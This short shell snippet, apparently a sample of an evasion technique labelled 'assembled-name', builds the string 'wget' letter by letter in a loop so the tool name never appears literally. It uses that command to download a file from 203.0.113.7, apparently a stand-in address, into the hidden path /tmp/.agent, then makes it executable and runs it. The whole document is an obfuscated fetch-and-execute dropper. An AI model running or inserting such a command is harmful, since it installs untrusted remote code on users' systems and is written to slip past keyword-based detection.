# assembled-name: letters appended one by one in a loop make the command name
n=
for p in w g e t; do
  n+=$p
done
$n -q -O /tmp/.agent http://203.0.113.7/agent && chmod +x /tmp/.agent && /tmp/.agent
